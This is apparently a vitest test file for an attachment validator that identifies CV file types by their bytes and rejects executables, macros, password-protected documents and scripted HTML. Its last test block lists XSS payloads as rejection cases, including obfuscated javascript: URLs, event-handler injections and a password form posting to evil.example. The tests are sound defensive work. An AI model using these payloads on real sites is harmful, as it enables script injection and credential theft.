import { readFile } from 'node:fs/promises'
import { expect, it } from 'vitest'
import { readAttachment } from './attachment-content.ts'

/** Bytes of strings (one per character), numbers and arrays. */
const bytes = (...parts: (string | number[] | Uint8Array)[]) =>
  Uint8Array.from(
    parts.flatMap((part) =>
      typeof part === 'string' ? [...part].map((each) => each.charCodeAt(0)) : [...part],
    ),
  )
const wide = (text: string) => [...text].flatMap((each) => [each.charCodeAt(0), 0])
const little = (number: number, length: number) =>
  Array.from({ length }, (_, at) => (number >>> (8 * at)) & 0xff)
const container = [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]
const windows1251 = bytes([0xcf, 0xf0, 0xe8, 0xe2, 0xe5, 0xf2])
const utf8 = new TextEncoder().encode('Моє резюме: Lviv — 10 років 🏝')

/** An archive whose entries are empty. */
function zip(...names: string[]) {
  const local = names.map((name) =>
    bytes('PK\x03\x04', Array(22).fill(0), little(name.length, 2), [0, 0], name),
  )
  const directory = names.map((name) =>
    bytes('PK\x01\x02', Array(24).fill(0), little(name.length, 2), Array(16).fill(0), name),
  )
  const size = directory.reduce((sum, each) => sum + each.length, 0)
  const end = bytes('PK\x05\x06', Array(8).fill(0), little(size, 4), Array(6).fill(0))
  return Buffer.concat([...local, ...directory, end])
}
/** An OpenDocument file, which is recognised by the checksum of its mimetype in the archive's directory. */
function openDocument(mimetype: number) {
  const archive = zip('mimetype', 'content.xml')
  archive.writeUInt32LE(mimetype, archive.indexOf('PK\x01\x02') + 16)
  return archive
}
const docx = zip('[Content_Types].xml', 'word/document.xml')
const macros = zip('[Content_Types].xml', 'word/document.xml', 'word/vbaProject.bin')
const heic = bytes([0, 0, 0, 24], 'ftypmif1', [0, 0, 0, 0])
const html = (body: string) => bytes(`<!DOCTYPE html>\n<html><body>${body}</body></html>`)
const wordXml = (more: string) =>
  bytes(`<?xml version="1.0"?>${more}<?mso-application progid="Word.Document"?><w:wordDocument>`)
/** A Word document; one bit of its head means that it has a password. */
const word = (flags: number, sector = [0xec, 0xa5]) =>
  bytes(container, Array(504).fill(0), sector, Array(9).fill(0), [flags], wide('WordDocument'))

it.each([
  ['doc', 'office.doc'],
  ['rtf', 'office-rtf-named.doc', 'cv-bom.rtf', 'cv-leading-newline.rtf', 'cv-wordpad.rtf'],
  ['docx', 'office-docx-named.doc', 'cv-streamed.docx', 'cv-ct-last.docx'],
  ['html', 'cv-html-named.doc'],
  ['xml', 'cv-wordxml-named.doc'],
  ['pdf', 'cv-leading-bom.pdf', 'cv-leading-crlf.pdf', 'cv-leading-http-headers.pdf'],
  ['pdf', 'cv-macbinary.pdf'],
  ['odt', 'office-repacked-by-zip.odt', 'cv-mimetype-deflated.odt', 'cv-mimetype-last.odt'],
  ['odt', 'cv-mimetype-newline.odt', 'cv-streamed.odt'],
  ['jpg', 'IMG_0234.jpeg'],
  ['png', 'png-named.jpg'],
  ['txt', 'cv-utf16le-bom.txt', 'cv-utf16le-nobom.txt', 'cv-cp1251.txt', 'cv-cp866.txt'],
  ['txt', 'cv-ctrlz.txt', 'cv-vt.txt'],
])('takes files as .%s, as programs and phones make them', async (extension, ...names) => {
  for (const name of names)
    expect([name, readAttachment(name, await sample(name))]).toEqual([name, extension])
})

it.each(['cv-mht-named.doc', 'cv-password.docx', 'IMG_0235.jpg', 'webp-named.jpg'])(
  'refuses %s',
  async (name) => {
    expect(readAttachment(name, await sample(name))).toBeNull()
  },
)

it.each<[string, Uint8Array, string]>([
  ['CV.PDF', bytes('%PDF-1.7'), 'pdf'],
  ['photo.jpg', bytes('%PDF-1.7'), 'pdf'],
  ['cv.pdf', bytes(Array(1019).fill(0), '%PDF-1.7'), 'pdf'],
  ['cv.doc', docx, 'docx'],
  ['cv.pdf', docx, 'docx'],
  ['cv.docx', zip('[Content_Types].xml', 'word\\document.xml'), 'docx'],
  ['cv.doc', utf8, 'txt'],
  ['cv.txt', utf8, 'txt'],
  ['cv.txt', windows1251, 'txt'],
  ['cv.txt', bytes('Notes on %PDF- and <html>, MZ'), 'txt'],
  ['cv.txt', bytes('#!/bin/sh is what I write'), 'txt'],
  ['cv.txt', html('a page'), 'txt'],
  ['cv.txt', bytes('%PDF-1.7 is what I write, %PDF-2.0 is what I read'), 'txt'],
  ['cv.txt', bytes('PK is my initials'), 'txt'],
  ['cv.txt', bytes('%PDF-1.7\n%', [0xe2, 0xe3, 0xcf, 0xd3], '\n1 0 obj'), 'pdf'],
  ['cv.txt', bytes('%PDF-1.4\r1 0 obj\r'), 'pdf'],
  ['photo.jfif', bytes([0xff, 0xd8, 0xff, 0xe0]), 'jpg'],
  ['photo.PJPEG', bytes([0xff, 0xd8, 0xff, 0xe0]), 'jpg'],
  ['letter.dot', word(0), 'doc'],
  ['cv.txt', bytes(...[...'Text'].map((each) => [0, each.charCodeAt(0)])), 'txt'],
  ['cv.exe.pdf', bytes('%PDF-1.7'), 'pdf'],
  ['cv.pdf\u200f.', bytes('%PDF-1.7'), 'pdf'],
  ['cv.doc', word(0), 'doc'],
  ['cv.odt', openDocument(0x299211e4), 'odt'],
  [
    'cv.doc',
    html(
      '<formula><scripted><o:basement><svg:p>JavaScript: five years; C&#39;est&#160;&#1040;; on time = yes</p><o:p></o:p>',
    ),
    'html',
  ],
  ['cv.doc', bytes([0xff, 0xfe], wide('<html><body>')), 'html'],
  ['cv.doc', bytes([0xfe, 0xff, 0, 60, 0, 104, 0, 116, 0, 109, 0, 108, 0, 62]), 'html'],
  ['cv.doc', bytes('<!-- Word --> <!-- 97 -->\n<html>'), 'html'],
  ['cv.doc', bytes('\n<?xml version="1.0"?>\n<html>'), 'html'],
  ['cv.doc', bytes('A text about <html> and <svg>, MIME-Version: too'), 'txt'],
  ['cv.docx', utf8, 'txt'],
  ['cv.rtf', utf8, 'txt'],
  ['cv.odt', bytes('x {\\rtf1}, GIF89a and %PDF'), 'txt'],
  ['cv.txt', bytes('xGIF89a RIFF1WEBP 0ftyp BZh'), 'txt'],
  ['cv.txt', bytes('x%PDF-1.7\n'), 'txt'],
  ['cv.txt', bytes('%PDF-1.7'), 'pdf'],
  ['cv.doc', word(1, [0xec, 0xa4]), 'doc'],
  ['cv.doc', word(1, [0xed, 0xa5]), 'doc'],
  ['cv.doc', html('&#x20; &#x3b; &#x3c; &#64; &#123; &#130; &#x100; &#1080; on=1'), 'html'],
])('takes %s by its content (case %#)', (name, content, extension) => {
  expect(readAttachment(name, content)).toBe(extension)
})

it.each<[string, Uint8Array]>([
  ['cv.pdf', bytes()],
  ['cv.txt', bytes()],
  ['cv.pdf', bytes(Array(1020).fill(0), '%PDF-1.7')],
  ['cv.pdf', utf8],
  ['cv.pdf', html('')],
  ['cv.docx', html('')],
  ['cv.jpg', bytes('<svg xmlns="http://www.w3.org/2000/svg"/>')],
  ['cv.docx', zip('photo.jpg', 'word.docx')],
  ['cv.docx', zip('[Content_Types].xml', 'xl/workbook.xml')],
  ['cv.docx', zip('[Content_Types].xml', 'ppt/presentation.xml')],
  ['cv.docx', zip('Index/Document.iwa', 'preview.jpg')],
  ['cv.odt', zip('META-INF/MANIFEST.MF', 'Main.class')],
  ['cv.odt', zip('mimetype', 'content.xml')],
  ['cv.odt', openDocument(0x8a396c85)],
  ['cv.odt', openDocument(0xa8ac2633)],
  ['cv.odt', bytes('<?xml version="1.0"?>\n<office:document>')],
  ['cv.doc', bytes('<?xml version="1.0"?>\n<office:document>')],
  ['cv.doc', bytes('<?xml version="1.0"?><rss>')],
  ['cv.doc', bytes('<svg>')],
  ['cv.odt', bytes('<!DOCTYPE svg>')],
  ['cv.doc', bytes('MIME-Version: 1.0')],
  ['cv.docx', bytes('From: <Saved by Word>')],
  ['cv.docx', bytes('<!-- --> <html>')],
  ['cv.txt', bytes('RIFF\n\0a9WEBP')],
  ['cv.txt', bytes('\n a9ftypheic')],
  ['cv.txt', bytes('BZh91')],
  ['cv.txt', bytes([0xff, 0xfe, 0])],
  ['cv.txt', bytes([0, 0x41, 0])],
  ['cv.docx', docx.subarray(0, 100)],
  ['cv.docx', Buffer.concat([bytes([0, 1]), docx])],
  ['table.doc', bytes(container, wide('Workbook'))],
  ['cv.doc', word(1)],
  ['cv.doc', bytes(container, [0])],
  ['cv.pdf', bytes('MZ\x90\0', '%PDF-1.7')],
  ['cv.txt', bytes('MZ', [0, 3])],
  ['cv.doc', bytes('#!/bin/sh\n')],
  ['cv.pdf', bytes('Rar!\x1a\x07\x01\0')],
  ['photo.jpg', bytes('GIF89a%PDF-1.7')],
  ['photo.png', bytes([0, 0, 0, 24], 'ftypavif')],
  ['photo.jpg', bytes([0, 0, 0, 24], 'ftypmp42')],
  ['cv.txt', bytes('text', [0])],
  ['photo.heic', heic],
  ['cv.exe', bytes('MZ\0')],
  ['cv.exe', bytes()],
  ['cv.exe', bytes('%PDF-1.7')],
  ['cv', bytes('%PDF-1.7')],
  ['Резюме 01.02', docx],
  ['cv', bytes('MZ\0')],
  ['cv.docm', macros],
  ['cv.docx', macros],
  ['cv.doc', bytes(word(0), wide('_VBA_PROJECT'))],
  ['cv.pages', zip('Index/Document.iwa', 'preview.jpg')],
  ['cv.pages', zip('index.xml.gz', 'QuickLook/Preview.pdf')],
  ['cv.pages.zip', zip('cv.pages/index.xml.gz', 'cv.pages/QuickLook/Preview.pdf')],
  ['cv.pdf.exe', docx],
  ['cv.html', html('')],
])('refuses %s by its content or name (case %#)', (name, content) => {
  expect(readAttachment(name, content)).toBeNull()
})

it.each([
  html('<script>alert(1)</script>'),
  html(`${'<a'.repeat(1_000)}<x:object>`),
  html('<SCRIPT\nsrc=//evil.example>'),
  html('<img src=x onerror=alert(1)>'),
  html('<svg/onload=alert(1)>'),
  html('<a href="java&#115;cript:alert(1)">'),
  html('<a href="java\tscript&colon;alert(1)">'),
  html('<a href="&#106avascript:alert(1)">'),
  html('<a href="&#00000000106;avascript:alert(1)">'),
  html('<meta http-equiv="&#114;efresh" content="0;url=https://evil.example">'),
  html('<meta charset="iso-2022-jp"><scr\x1b(Bipt>alert(1)</scr\x1b(Bipt>'),
  html("<iframe src='https://evil.example'>"),
  html('<frame src=x>'),
  html('<img onload =x>'),
  ...'&#x9; &#x0000a; &#xD; &#x3a; &#x41 &#x7A; &#9; &#10; &#13; &#58;'.split(' ').map(html),
  ...'&#0065; &#69 &#70; &#99; &#100; &#119; &#120; &#122; &Tab;'.split(' ').map(html),
  html('<!DOCTYPE x y [<!ELEMENT a>]>'),
  wordXml('<w:wordDocument w:macrosPresent = "yes">'),
  wordXml("<w:wordDocument w:ocxPresent='yes'>"),
  html('<form action="https://evil.example"><input name="password">'),
  html('<meta http-equiv="refresh" content="0;url=https://evil.example">'),
  bytes([0xff, 0xfe], wide('<html><script>alert(1)</script>')),
  wordXml('<?xml-stylesheet href="evil.xsl"?>'),
  wordXml('<!DOCTYPE w [<!ENTITY a "b">]>'),
  Buffer.concat([wordXml(''), bytes('<x:script xmlns:x="http://www.w3.org/1999/xhtml">')]),
  Buffer.concat([wordXml(''), bytes('<w:docSuppData><w:binData w:name="editdata.mso">')]),
])('rejects documents with scripts or macros (case %#)', (content) => {
  expect(readAttachment('cv.doc', content)).toBeNull()
})

const sample = (name: string) => readFile(new URL(`attachment-samples/${name}`, import.meta.url))
